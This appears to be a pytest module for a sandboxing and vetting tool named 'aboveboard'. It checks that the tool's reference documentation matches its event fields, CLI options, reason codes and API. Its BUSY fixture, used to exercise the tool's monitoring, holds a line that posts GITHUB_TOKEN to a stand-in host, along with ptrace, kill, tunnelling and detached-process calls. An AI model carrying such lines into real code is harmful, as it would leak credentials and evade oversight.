"""The reference says what the code does: fields, options, codes and keys are compared, both ways where that can be."""

from __future__ import annotations

import argparse
import ast
import dataclasses
import inspect
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

import aboveboard
from aboveboard.cli.app import COMMANDS, command_parser

ROOT = Path(__file__).resolve().parents[2]
DOCS = ROOT / "docs"
SOURCE = ROOT / "src" / "aboveboard"

BUSY = """
import ctypes, os, socket, subprocess, threading, urllib.request
open("output/made", "w").write(open("input/a.txt").read())
os.rename("notes", "renamed"); os.chmod("input/a.txt", 0o600); os.symlink("a", "output/link"); os.mkfifo("output/fifo")
os.setxattr("output/made", "user.note", b"x"); os.unlink("gone")
os.kill(1, 0); os.kill(1, 9)
ctypes.CDLL(None).ptrace(0, 0, 0, 0); ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
urllib.request.urlopen("https://api.test/v1?q=1", data=os.environ["GITHUB_TOKEN"].encode()).read()
one = socket.create_connection(("203.0.113.5", 80))
for number in range(2):
    one.sendall(b"GET /%d HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n" % number); one.recv(4096)
tunnel = socket.create_connection(("203.0.113.5", 3128))
tunnel.sendall(b"CONNECT deep.test:80 HTTP/1.1\\r\\n\\r\\n"); tunnel.recv(4096)
tunnel.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("203.0.113.6", 4000))
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
threading.Thread(target=int).start()
subprocess.Popen(["sleep", "600"], start_new_session=True)
open(os.memfd_create("x"), "wb").write(b"x")
"""


def cells(page: str) -> Iterator[list[str]]:
    """The rows of all tables, as lists of cells."""
    for line in page.splitlines():
        if line.startswith("| "):
            yield [cell.strip() for cell in re.split(r"(?<!\\)\|", line.strip())[1:-1]]


def words(text: str) -> set[str]:
    """What stands in back quotes."""
    return set(re.findall(r"`([^`\n]+)`", re.sub(r"^```.*?^```", "", text, flags=re.M | re.S)))


def read(name: str) -> str:
    return (DOCS / name).read_text(encoding="utf-8")


def documented_fields() -> dict[str, set[str]]:
    """Event type → the fields that the reference names for it."""
    page = read("reference/evidence.md")
    sections = {part.split("\n", 1)[0]: part for part in page.split("\n## ")}
    common = {word for row in cells(sections["Common fields"]) for word in words(row[0])} | {"h", "v"}
    found: dict[str, set[str]] = {}
    for row in cells(page):
        if len(row) == 3 and re.fullmatch(r"`[a-z]+`", row[0]):
            found[row[0].strip("`")] = common | words(row[1]) | words(row[2])
    # Two events have a table of their own, whose rows are fields.
    for kind, section in (("change", "Files"), ("flow", "Network")):
        tables = cells(sections[section].split(f"\n`{kind}`")[1])
        found[kind] |= {word for row in tables if len(row) == 2 for word in words(row[0])}
    found["limit"] |= {"what", "d"}
    return found


@pytest.mark.usefixtures("world_available")
def test_every_field_that_a_busy_run_writes_is_documented_for_its_event(tmp_path: Path) -> None:
    task = tmp_path / "task"
    for folder in ("input", "output"):
        (task / folder).mkdir(parents=True)
    for name in ("input/a.txt", "notes", "gone"):
        (task / name).write_text("some text of the input\n", encoding="utf-8")
    with aboveboard.World(workspace=task, contract=aboveboard.Contract.default(), grace_seconds=0) as world:
        world.put("more", b"x")
        done = world.run(["python3", "-c", BUSY], phase="import")
        assert done.returncode == 0, done.stderr.decode()
    fields = documented_fields()
    seen: dict[str, set[str]] = {}
    for event in world.close().events():
        seen.setdefault(event.type, set()).update(event.data)
    expected = {
        "world",
        "witness",
        "command",
        "status",
        "put",
        "end",
        "proc",
        "gone",
        "exec",
        "signal",
        "survivor",
        "pids",
    }
    assert expected | {"open", "fs", "meta", "change", "net", "flow", "packets", "escape", "probe"} <= set(seen)
    assert {"http", "tls", "dns", "canaries", "more", "requests", "tunnel", "n", "wire"} <= seen["flow"]
    undocumented = {kind: sorted(names - fields.get(kind, set())) for kind, names in seen.items()}
    assert {kind: names for kind, names in undocumented.items() if names} == {}


def options(parser: argparse.ArgumentParser) -> set[str]:
    return {name for action in parser._actions for name in action.option_strings if name.startswith("--")} - {"--help"}


@pytest.mark.parametrize("command", COMMANDS)
def test_the_options_of_a_command_are_those_of_its_reference(command: str) -> None:
    page = read("reference/cli.md")
    section = page.split(f"\n## aboveboard {command}\n")[1].split("\n## ")[0]
    documented = {word.split()[0] for row in cells(section) for word in words(row[0])}
    assert documented == options(command_parser(command))


def test_every_key_of_a_contract_has_a_row() -> None:
    documented = {word for row in cells(read("reference/contract.md").split("## Paths")[0]) for word in words(row[0])}
    assert documented == set(inspect.signature(aboveboard.Contract).parameters)


def reason_codes() -> set[str]:
    """The first argument of every ``Reason(…)`` in the source."""
    found = set()
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Name)
                and node.func.id == "Reason"
                and node.args
            ):
                first = node.args[0]
                if isinstance(first, ast.Constant) and isinstance(first.value, str):
                    found.add(first.value)
    return found


def test_every_reason_code_is_explained_and_none_that_does_not_exist() -> None:
    page = read("reference/json-output.md")
    tables = [part.split("\n## ")[0] for part in re.split(r"\| `code` \| means \|", page)[1:]]
    assert len(tables) == 2
    documented = {word for table in tables for row in cells(table.split("\n\n")[0]) for word in words(row[0])}
    assert documented == reason_codes()


def keys(value: object) -> set[str]:
    """Every key in a JSON value, except below maps whose keys are data."""
    if isinstance(value, dict):
        found = set(value)
        for key, inner in value.items():
            found |= {"status", "proven", "missing"} if key == "classes" else keys(inner)
        return found
    if isinstance(value, list):
        return set().union(*(keys(item) for item in value))
    return set()


@pytest.mark.usefixtures("world_available")
def test_every_key_of_vets_json_is_documented(tmp_path: Path) -> None:
    script = tmp_path / "send.sh"
    script.write_text('#!/bin/sh\nread -r line < "$1"\necho "$line" > "$2"\n', encoding="utf-8")
    given = tmp_path / "in.txt"
    given.write_text("x\n", encoding="utf-8")
    report = aboveboard.vet(str(script), inputs=[given], release_to=tmp_path / "done")
    assert report.verdict == "clean"
    page = read("reference/json-output.md")
    documented = words(page) | set(re.findall(r'"(\w+)":', page))
    assert keys(report.to_dict()) - documented == set()


def test_every_limit_and_every_public_name_stands_in_the_python_reference() -> None:
    page = read("reference/python-api.md")
    assert [field.name for field in dataclasses.fields(aboveboard.Limits) if field.name not in page] == []
    assert [name for name in aboveboard.__all__ if name != "__version__" and f"`{name}" not in page] == []


@pytest.mark.parametrize("name", ["trace", "vet", "World"])
def test_the_arguments_of_a_signature_are_the_real_ones(name: str) -> None:
    page = read("reference/python-api.md")
    written = re.search(rf"^{name}\((.*?)\)\n```", page, re.M | re.S)
    assert written
    real = inspect.signature(getattr(aboveboard, name) if name == "World" else getattr(getattr(aboveboard, name), name))
    assert re.findall(r"(\w+)=", written[1]) == [
        parameter.name for parameter in real.parameters.values() if parameter.kind is parameter.KEYWORD_ONLY
    ]


def test_every_decision_stands_in_the_index_with_its_title_and_state() -> None:
    folder = DOCS / "explanation" / "decisions"
    index = (folder / "index.md").read_text(encoding="utf-8")
    records = sorted(folder.glob("[0-9]*.md"))
    assert records
    for number, path in enumerate(records, start=1):
        text = path.read_text(encoding="utf-8")
        title = re.match(r"# (\d{4}): (.*)\n\nState: (\w+)", text)
        assert title, path.name
        assert title[1] == f"{number:04}" == path.name[:4]
        assert f"| [{title[1]}]({path.name}) | {title[2]} | {title[3]} |" in index


@pytest.mark.parametrize("page", ["README.md", "CONTRIBUTING.md"])
def test_links_out_of_the_front_pages_lead_somewhere(page: str) -> None:
    targets = re.findall(r"\]\(([^)#:]+)(?:#[^)]*)?\)", (ROOT / page).read_text(encoding="utf-8"))
    assert targets
    assert [target for target in targets if not (ROOT / target).exists()] == []
